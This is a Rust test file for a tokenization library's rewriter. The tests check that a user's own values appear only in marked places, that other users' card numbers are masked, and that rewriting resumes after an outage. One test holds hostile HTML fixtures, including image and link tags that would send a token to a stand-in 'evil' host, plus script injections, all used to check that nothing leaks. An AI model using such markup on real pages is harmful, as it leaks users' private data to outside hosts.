//! The rewriter with a real session: what is one's own is shown in its place, and nowhere else.

mod common;

use common::{CONTEXT, NOW, World, alice, bob};
use symbolon::{Access, Error, Field, Format, Rewriter, Stopped};

/// Rewrites `text` for Alice, in chunks of this size.
fn rewrite(world: &mut World, format: Format<'_>, access: Access<'_>, text: &str, chunk: usize) -> String {
    let client = world.log_in(&alice());
    let proof = world.prove(&client);
    let session = world.vault.authenticate(&client.credential, &proof, CONTEXT, &mut world.host).unwrap();
    let mut out = Vec::new();
    let mut put = |bytes: &[u8]| {
        out.extend_from_slice(bytes);
        Ok::<(), ()>(())
    };
    let mut rewriter = Rewriter::new(format, access, &session, &mut world.host);
    for chunk in text.as_bytes().chunks(chunk) {
        rewriter.feed(chunk, &mut put).unwrap();
    }
    rewriter.finish(&mut put).unwrap();
    String::from_utf8(out).unwrap()
}

const HTML: Format<'static> = Format::Html { marker: "m7" };

/// The token in an image's address, in a script, in what a user wrote, in an unmarked element: it stays a token, wherever it is cut.
#[test]
fn a_token_in_hostile_content() {
    let mut world = World::new();
    let name = world.token(&alice(), Field::PERSON_NAME, "O'Neil <script>");
    let t = name.as_token();
    let page = format!(
        "<p data-symbolon=\"m7\">{t}</p><img src=\"//evil/?q={t}\"><a href='https://evil/{t}'>x</a>\
         <script data-symbolon=m7>{t}</script><p>{t}</p><p data-symbolon=wrong>{t}</p><p data-symbolon=m7>Hi {t}</p>\
         <b title=\"data-symbolon=m7\">{t}</b><!-- <p data-symbolon=m7>{t}</p> --><p data-symbolon=m7>{t}<img src=//evil/{t}></p>"
    );
    let expected = page.replacen(&t.to_string(), "O&#39;Neil &lt;script&gt;", 1);
    for chunk in [1, 7, 161, 10_000] {
        assert_eq!(rewrite(&mut world, HTML, Access::OWN, &page, chunk), expected);
    }
}

/// In one page: hers is shown, his is a placeholder that tells nothing, and a mask is a mask.
#[test]
fn values_placeholders_and_masks() {
    let mut world = World::new();
    let hers = world.token(&alice(), Field::CARD_NUMBER, "4242 4242 4242 4242");
    let his = world.token(&bob(), Field::CARD_NUMBER, "4111111111111111");
    let csv = format!("who,card\nalice,{}\nbob,\"{}\"\n", hers.as_token(), his.as_token());
    let csv_format = Format::Csv { delimiter: b',' };
    assert_eq!(
        rewrite(&mut world, csv_format, Access::OWN, &csv, 50),
        "who,card\nalice,4242 4242 4242 4242\nbob,\"●●●● ●●●● ●●●● ●●●●\"\n"
    );
    assert_eq!(
        rewrite(&mut world, csv_format, Access::OWN.masked(), &csv, 50),
        "who,card\nalice,●●●● 4242\nbob,\"●●●● ●●●● ●●●● ●●●●\"\n"
    );
    let json = format!("{{\"{0}\":\"{0}\"}}", hers.as_token());
    assert_eq!(
        rewrite(&mut world, Format::Json, Access::OWN, &json, 3),
        format!("{{\"{}\":\"4242 4242 4242 4242\"}}", hers.as_token())
    );
}

/// A value that is no text (a custom field takes any bytes) has no place in a text: the placeholder stands for it.
#[test]
fn a_value_that_is_not_text() {
    let mut world = World::new();
    let field = Field::custom(1, symbolon::Class::SMALLEST).unwrap();
    let mut out = [0; symbolon::Token::MAX_LEN];
    let token = world.vault.tokenize(&alice(), field, &[0xff, 0xfe], &mut out, &mut world.host).unwrap().to_string();
    let shown = rewrite(&mut world, Format::AnywhereInPlainText, Access::OWN, &format!("x {token} y"), 9);
    assert_eq!(shown, format!("x {} y", field.placeholder()));
}

/// When the trail fills up in the middle of a text, rewriting stops, and goes on where it stopped once there is room.
#[test]
fn it_goes_on_where_it_stopped() {
    let mut world = World::new();
    let token = world.token(&alice(), Field::EMAIL, "alice@example.com").as_token().to_string();
    let client = world.log_in(&alice());
    let proof = client.key.prove(&client.credential, CONTEXT, NOW, &mut world.rng).unwrap();
    let session = world.vault.authenticate(&client.credential, &proof, CONTEXT, &mut world.host).unwrap();
    let text = format!("{token}\n").repeat(300);
    let mut out = Vec::new();
    world.down.set(true);
    let mut put = |bytes: &[u8]| {
        out.extend_from_slice(bytes);
        Ok::<(), ()>(())
    };
    let down = world.down.clone();
    let mut rewriter = Rewriter::new(Format::AnywhereInPlainText, Access::OWN, &session, &mut world.host);
    let first = &text[..1000];
    assert_eq!(rewriter.feed(first.as_bytes(), &mut put), Err(Stopped::Core(Error::Unavailable)));
    assert_eq!(rewriter.feed(first.as_bytes(), &mut put), Err(Stopped::Core(Error::Unavailable)));
    down.set(false);
    rewriter.feed(first.as_bytes(), &mut put).unwrap();
    rewriter.finish(&mut put).unwrap();
    let whole = first.len() / (token.len() + 1);
    assert_eq!(
        String::from_utf8(out).unwrap(),
        format!("{}{}", "alice@example.com\n".repeat(whole), &first[whole * (token.len() + 1)..])
    );
}
